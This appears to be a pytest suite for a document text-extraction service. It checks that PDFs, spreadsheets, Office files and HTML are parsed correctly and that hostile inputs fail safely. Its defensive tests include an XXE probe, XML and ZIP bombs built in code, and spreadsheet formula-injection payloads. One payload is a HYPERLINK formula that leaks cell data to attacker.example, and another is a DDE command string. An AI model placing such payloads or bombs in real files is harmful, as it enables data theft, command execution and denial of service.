"""Text extraction from every accepted format, hostile files included."""

from __future__ import annotations

import re
import time
import zipfile
from pathlib import Path

import pytest

from assets.processing import (
    AssetProcessingError,
    ConversionFailed,
    ExtractionFailed,
    FileKind,
    InvalidFileType,
    Segment,
    detect_file_type,
    extract_segments,
)
from tests.support.corpus import CORPUS


def _normalised(text: str) -> str:
    return " ".join(text.split())


def _extract(path: Path, name: str | None = None) -> list[Segment]:
    kind = detect_file_type(path, declared_name=name or path.name, declared_content_type=None)
    return list(extract_segments(path, kind))


def _text(path: Path) -> str:
    return _normalised("\n".join(segment.text for segment in _extract(path)))


def _corpus_phrases() -> list[tuple[str, str]]:
    """(relative file, phrase) for every well-formed file, read from corpus/SOURCES.md."""
    pairs: list[tuple[str, str]] = []
    for line in (CORPUS / "SOURCES.md").read_text(encoding="utf-8").splitlines():
        cells = [cell.strip() for cell in line.split(" | ")]
        if len(cells) < 8 or not cells[0].startswith("| `") or "hostile/" in cells[0]:
            continue
        relative = cells[0].removeprefix("| `").rstrip("`")
        for phrase in re.findall(r'"([^"]+)"', cells[-1]):
            pairs.append((relative, phrase))
    return pairs


CORPUS_PHRASES = _corpus_phrases()


def test_the_corpus_lists_a_phrase_for_every_well_formed_file() -> None:
    files = {
        p.relative_to(CORPUS).as_posix()
        for p in CORPUS.glob("*/*")
        if p.suffix != ".md" or p.parent.name == "md"
    }
    listed = {relative for relative, _ in CORPUS_PHRASES}

    assert {f for f in files if not f.startswith("hostile/")} <= listed


@pytest.mark.parametrize(("relative", "phrase"), CORPUS_PHRASES, ids=lambda v: str(v)[:40])
def test_it_extracts_the_search_phrase_of_every_corpus_file(relative: str, phrase: str) -> None:
    assert _normalised(phrase) in _text(CORPUS / relative)


def test_it_numbers_the_pages_of_a_multi_page_pdf() -> None:
    segments = _extract(CORPUS / "pdf" / "pdflatex-4-pages.pdf")

    assert [segment.location for segment in segments] == ["page 1", "page 2", "page 3", "page 4"]


def test_it_keeps_the_page_where_a_pdf_phrase_appears() -> None:
    segments = _extract(CORPUS / "pdf" / "multicolumn.pdf")

    pages = [s.location for s in segments if "Two-Column Document" in s.text]
    assert pages == ["page 1"]


def test_it_names_every_xlsx_sheet_in_the_segment_location() -> None:
    segments = _extract(CORPUS / "xlsx" / "stanley-cups.xlsx")

    assert [s.location for s in segments] == ["sheet Stanley Cups", "sheet Stanley Cups Since 67"]
    assert "Maple Leafs" in segments[1].text


def test_it_renders_xlsx_sheets_as_csv_rows() -> None:
    segments = _extract(CORPUS / "xlsx" / "stanley-cups.xlsx")

    assert "Team,Location,Stanley Cups" in segments[0].text.splitlines()


def test_it_drops_html_scripts_and_keeps_headings_as_lines() -> None:
    text = "\n".join(s.text for s in _extract(CORPUS / "html" / "example-with-scripts.html"))

    assert "Russian Offensive Campaign Assessment" in text
    assert "function(" not in text
    assert "gtag(" not in text and "jQuery" not in text


def test_it_keeps_html_headings_and_list_items_on_their_own_lines(tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    path.write_text(
        "<html><head><title>T</title><style>p{color:red}</style></head><body>"
        "<nav><a href='/'>Home</a><a href='/x'>Menu item</a></nav>"
        "<h1>Data Processing Agreement</h1><p>Intro <b>bold</b> text.</p>"
        "<ul><li>First duty</li><li>Second duty</li></ul>"
        "<script>var secret = 'tracking';</script>"
        "<table><tr><td>Role</td><td>Processor</td></tr></table></body></html>",
        encoding="utf-8",
    )

    lines = "".join(s.text for s in _extract(path)).splitlines()

    assert "Data Processing Agreement" in lines
    assert "Intro bold text." in lines
    assert "- First duty" in lines and "- Second duty" in lines
    assert "Role | Processor" in lines
    assert not any("secret" in line or "color" in line or "Menu item" in line for line in lines)


@pytest.mark.parametrize(
    ("name", "phrases"),
    [
        ("fake-text-utf-16.txt", ["Doylestown, PA 18901"]),
        ("fake-text-utf-16-be.txt", ["Doylestown, PA 18901"]),
        ("fake-text-utf-32.txt", ["Doylestown, PA 18901"]),
        ("stanley-cups-utf-16.csv", ["Maple Leafs"]),
        ("umlauts-non-utf8.md", ["können", "äöüß"]),
        ("fake-html-cp1252.html", ["Die schöne Frau", "15,50 €"]),
        ("example-steelJIS-datasheet-utf-16.html", ["Chromium molybdenum steel"]),
    ],
)
def test_it_decodes_utf16_utf32_latin1_and_cp1252_files(name: str, phrases: list[str]) -> None:
    text = _text(CORPUS / "hostile" / name)

    for phrase in phrases:
        assert phrase in text
    assert "\x00" not in text and "\ufffd" not in text


def test_it_reads_xxe_probes_without_resolving_the_external_entity() -> None:
    text = _text(CORPUS / "hostile" / "ExternalEntityInText.docx")

    assert "Here should not be the POI web site" in text
    assert "<html" not in text.lower()


HOSTILE_OUTCOMES: dict[str, type[AssetProcessingError] | str] = {
    "ExternalEntityInText.docx": "Here should not be the POI web site",
    "SampleSS.strict.xlsx": ConversionFailed,
    "autoprint.pdf": ExtractionFailed,
    "bug1020226.pdf": ExtractionFailed,
    "bug53475-password-is-pass.docx": InvalidFileType,
    "copy-protected.pdf": "LayoutParser",
    "csv-with-long-lines.csv": "SpearmanCorrelationCoefficient",
    "empty.txt": ExtractionFailed,
    "empty.xlsx": ExtractionFailed,
    "example-steelJIS-datasheet-utf-16.html": "Chromium molybdenum steel",
    "fake-html-cp1252.html": "Die schöne Frau",
    "fake-power-point-malformed.pptx": "Test Slide",
    "fake-text-all-whitespace.txt": ExtractionFailed,
    "fake-text-utf-16-be.txt": "Doylestown, PA 18901",
    "fake-text-utf-16.txt": "Doylestown, PA 18901",
    "fake-text-utf-32.txt": "Doylestown, PA 18901",
    "invalid.xlsx": InvalidFileType,
    "libreoffice-writer-password.pdf": ExtractionFailed,
    "password_protected.xlsx": InvalidFileType,
    "poc-xmlbomb.xlsx": ConversionFailed,
    "poppler-937-0-fuzzed.pdf": ExtractionFailed,
    "scan-bad.pdf": "pdf.js",
    "stanley-cups-utf-16.csv": "Maple Leafs",
    "truncated62886.docx": InvalidFileType,
    "umlauts-non-utf8.md": "können",
    "xlsx-corrupted.xlsx": "XXE",
}


@pytest.mark.timeout(60)
@pytest.mark.parametrize("path", sorted((CORPUS / "hostile").iterdir()), ids=lambda p: p.name)
def test_every_hostile_file_ends_in_a_typed_error_or_sensible_text(path: Path) -> None:
    started = time.monotonic()
    try:
        outcome: type[AssetProcessingError] | str = _text(path)
    except AssetProcessingError as error:
        outcome = type(error)
        assert error.message
    assert time.monotonic() - started < 30

    expected = HOSTILE_OUTCOMES.get(path.name)
    if isinstance(expected, str):
        assert isinstance(outcome, str) and expected in outcome
    elif expected is not None:
        assert outcome is expected


@pytest.mark.parametrize("name", ["empty.txt", "fake-text-all-whitespace.txt"])
def test_it_fails_an_empty_file_with_no_text_found(name: str) -> None:
    with pytest.raises(ExtractionFailed, match="no text found"):
        _text(CORPUS / "hostile" / name)


def test_it_says_a_password_protected_pdf_needs_its_password_removed() -> None:
    with pytest.raises(ExtractionFailed, match="password"):
        _text(CORPUS / "hostile" / "libreoffice-writer-password.pdf")


def test_an_xlsx_conversion_failure_names_both_formats() -> None:
    with pytest.raises(ConversionFailed) as caught:
        _text(CORPUS / "hostile" / "poc-xmlbomb.xlsx")

    assert caught.value.code == "CONVERSION_FAILED"
    assert caught.value.details == {"originalFormat": "xlsx", "targetFormat": "csv"}


def _zip_bomb(path: Path, member: str, uncompressed_mib: int) -> None:
    """An Office-looking ZIP whose ``member`` is ``uncompressed_mib`` MiB of zeros."""
    zeros = bytes(1024 * 1024)
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open(member, "w", force_zip64=True) as handle:
            for _ in range(uncompressed_mib):
                handle.write(zeros)


@pytest.fixture(scope="module")
def docx_bomb(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A .docx whose word/document.xml expands to 1 GiB of zeros (about 1 MB on disk)."""
    path = tmp_path_factory.mktemp("bomb") / "bomb.docx"
    _zip_bomb(path, "word/document.xml", 1024)
    return path


def test_it_refuses_a_docx_zip_bomb_without_decompressing_it(docx_bomb: Path) -> None:
    assert docx_bomb.stat().st_size < 10 * 1024 * 1024
    started = time.monotonic()

    with pytest.raises(ExtractionFailed, match=r"MiB|compression ratio"):
        list(extract_segments(docx_bomb, FileKind.DOCX))

    assert time.monotonic() - started < 5


def test_it_refuses_an_xlsx_zip_bomb_as_a_failed_conversion(tmp_path: Path) -> None:
    path = tmp_path / "bomb.xlsx"
    _zip_bomb(path, "xl/worksheets/sheet1.xml", 64)

    with pytest.raises(ConversionFailed, match="compression ratio"):
        list(extract_segments(path, FileKind.XLSX))


def test_it_extracts_docx_tables_headers_and_footers_built_here(tmp_path: Path) -> None:
    import docx

    document = docx.Document()
    document.add_heading("Processing Agreement", level=1)
    document.add_paragraph("The processor acts on documented instructions.")
    table = document.add_table(rows=2, cols=2)
    table.cell(0, 0).text, table.cell(0, 1).text = "Party", "Role"
    table.cell(1, 0).text, table.cell(1, 1).text = "Acme Ltd", "Controller"
    document.sections[0].header.paragraphs[0].text = "Confidential header"
    document.sections[0].footer.paragraphs[0].text = "Page footer text"
    path = tmp_path / "agreement.docx"
    document.save(str(path))

    segments = _extract(path)
    body = "".join(s.text for s in segments if s.location is None)

    assert "Processing Agreement" in body and "Acme Ltd | Controller" in body
    assert ("header", "Confidential header\n") in [(s.location, s.text) for s in segments]
    assert ("footer", "Page footer text\n") in [(s.location, s.text) for s in segments]


def test_it_extracts_pptx_tables_and_speaker_notes_per_slide(tmp_path: Path) -> None:
    from pptx import Presentation
    from pptx.util import Inches

    presentation = Presentation()
    first = presentation.slides.add_slide(presentation.slide_layouts[5])
    first.shapes.title.text = "Retention schedule"
    table = first.shapes.add_table(2, 2, Inches(1), Inches(2), Inches(4), Inches(1)).table
    table.cell(0, 0).text, table.cell(0, 1).text = "Record", "Keep"
    table.cell(1, 0).text, table.cell(1, 1).text = "Invoices", "10 years"
    second = presentation.slides.add_slide(presentation.slide_layouts[1])
    second.shapes.title.text = "Second slide"
    second.notes_slide.notes_text_frame.text = "Speaker notes mention erasure requests"
    path = tmp_path / "deck.pptx"
    presentation.save(str(path))

    segments = _extract(path)

    assert [s.location for s in segments] == ["slide 1", "slide 2"]
    assert "Invoices | 10 years" in segments[0].text
    assert "erasure requests" in segments[1].text


def test_it_converts_every_sheet_of_a_workbook_built_here(tmp_path: Path) -> None:
    import openpyxl

    workbook = openpyxl.Workbook()
    workbook.active.title = "Revenue"
    workbook.active.append(["Quarter", "Amount"])
    workbook.active.append(["Q1", 1200])
    workbook.create_sheet("Empty")
    costs = workbook.create_sheet("Costs")
    costs["B3"] = "Legal fees"
    path = tmp_path / "book.xlsx"
    workbook.save(path)

    segments = _extract(path)

    assert [s.location for s in segments] == ["sheet Revenue", "sheet Costs"]
    assert segments[0].text == "Quarter,Amount\nQ1,1200\n"
    assert segments[1].text.strip() == "Legal fees"


def test_it_streams_a_large_text_file_in_blocks(tmp_path: Path) -> None:
    path = tmp_path / "big.txt"
    path.write_text("line of text\n" * 300_000, encoding="utf-8")  # ~3.9 MB

    segments = _extract(path)

    assert len(segments) >= 3
    assert max(len(s.text) for s in segments) <= 1024 * 1024
    assert sum(len(s.text) for s in segments) == path.stat().st_size


def test_a_converted_sheet_neutralises_cells_that_a_spreadsheet_would_run_as_formulas(
    tmp_path: Path,
) -> None:
    import csv

    import openpyxl

    from formats.xlsx import convert_xlsx_to_csv

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Register"
    hostile = [
        '=HYPERLINK("http://attacker.example/?"&A2,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\tleading tab",
        "\rleading carriage return",
    ]
    for column, text in enumerate(hostile, start=1):
        cell = sheet.cell(row=1, column=column)
        cell.value = text
        cell.data_type = "s"  # a string a spreadsheet would run, not a formula of the sheet
    sheet.append(["Plain text", -5, "a=b", 1.5, "", "note\r=1+2"])
    path = tmp_path / "register.xlsx"
    workbook.save(path)
    destination = tmp_path / "register.csv"

    convert_xlsx_to_csv(path, destination)

    with destination.open(encoding="utf-8", newline="") as converted:
        rows = list(csv.reader(converted))
    assert rows[0] == ["## Sheet: Register"]
    # Each string starting with = + - @ tab or CR gets a leading apostrophe (OWASP), which
    # a spreadsheet shows as text; numbers and other strings are written as they are, and
    # a carriage return inside a cell is quoted (unquoted, a reader starts a row at it).
    assert rows[1] == ["'" + text for text in hostile]
    assert rows[2] == ["Plain text", "-5", "a=b", "1.5", "", "note\r=1+2"]
    text = "".join(segment.text for segment in _extract(path))
    assert "'=HYPERLINK(" in text and "'@SUM(A1:A2)" in text
